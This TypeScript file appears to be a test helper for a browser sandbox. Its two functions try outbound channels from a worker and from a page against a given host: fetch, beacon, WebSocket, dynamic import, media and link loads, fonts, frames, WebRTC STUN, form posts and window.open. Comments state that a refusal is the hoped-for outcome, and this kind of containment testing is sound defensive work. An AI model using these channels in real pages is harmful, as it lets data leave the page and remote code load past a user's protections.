/**
 * The ways out as an attacker would try them, once code of theirs runs in the page or in a worker. Both functions are
 * sent into the browser whole: they may use nothing from outside.
 */

/** Where an attempt is to arrive. */
export interface Target {
  host: string
  udp: string
}

/** Tries every way that a worker has; the paths begin with `worker-`. */
export async function leakFromWorker({ host }: Target): Promise<void> {
  const quietly = async (attempt: () => unknown) => {
    try {
      await attempt()
    } catch {
      // Refused, which is what is hoped for.
    }
  }
  await quietly(() => fetch(`http://${host}/worker-fetch`, { mode: 'no-cors' }))
  await quietly(
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`ws://${host}/worker-socket`)
        socket.onopen = socket.onerror = socket.onclose = resolve
      }),
  )
  await quietly(() => import(`http://${host}/worker-code`))
}

/** Tries every way that a page has, but for leaving it. */
export async function leakFromPage({ host, udp }: Target): Promise<void> {
  const at = (way: string) => `http://${host}/${way}`
  const quietly = async (attempt: () => unknown) => {
    try {
      await attempt()
    } catch {
      // Refused, which is what is hoped for.
    }
  }
  /** Until it has come to an end of either kind. */
  const settled = (element: HTMLElement) =>
    new Promise((resolve) => {
      element.onload = element.onerror = resolve
      AbortSignal.timeout(1500).addEventListener('abort', resolve)
      document.body.append(element)
    })
  const link = (rel: string, href: string) =>
    settled(Object.assign(document.createElement('link'), { rel, href }))
  const frame = () => {
    const element = document.createElement('iframe')
    document.body.append(element)
    return element
  }
  /** With the means of a window: its own, or those of a fresh frame, which nobody has taken away. */
  const connect = async (Connection: typeof RTCPeerConnection | undefined) => {
    if (Connection === undefined) return
    const connection = new Connection({ iceServers: [{ urls: `stun:${udp}` }] })
    connection.createDataChannel('x')
    await connection.setLocalDescription(await connection.createOffer())
    await new Promise((resolve) => {
      AbortSignal.timeout(1500).addEventListener('abort', resolve)
    })
    connection.close()
  }

  await quietly(() => fetch(at('fetch'), { mode: 'no-cors' }))
  await quietly(() => navigator.sendBeacon(at('beacon'), 'x'))
  await quietly(
    () =>
      new Promise((resolve) => {
        const socket = new WebSocket(`ws://${host}/socket`)
        socket.onopen = socket.onerror = socket.onclose = resolve
      }),
  )
  await quietly(() => import(at('code')))
  await Promise.all([
    quietly(() => settled(Object.assign(document.createElement('img'), { src: at('image') }))),
    quietly(() => link('stylesheet', at('style'))),
    quietly(() => link('prefetch', at('prefetch'))),
    quietly(() => new FontFace('leak', `url(${at('font')})`).load()),
    quietly(() => settled(Object.assign(document.createElement('iframe'), { src: at('frame') }))),
    quietly(() =>
      connect((window as { RTCPeerConnection?: typeof RTCPeerConnection }).RTCPeerConnection),
    ),
    quietly(() =>
      connect(
        (frame().contentWindow as { RTCPeerConnection?: typeof RTCPeerConnection } | null)
          ?.RTCPeerConnection,
      ),
    ),
  ])
  await quietly(() => {
    const target = frame()
    target.name = 'leak'
    const form = document.createElement('form')
    Object.assign(form, { action: at('form'), method: 'post', target: 'leak' })
    document.body.append(form)
    form.submit()
  })
  await quietly(() => window.open(at('window')))
  await quietly(() => frame().contentWindow?.open(at('window')))
}
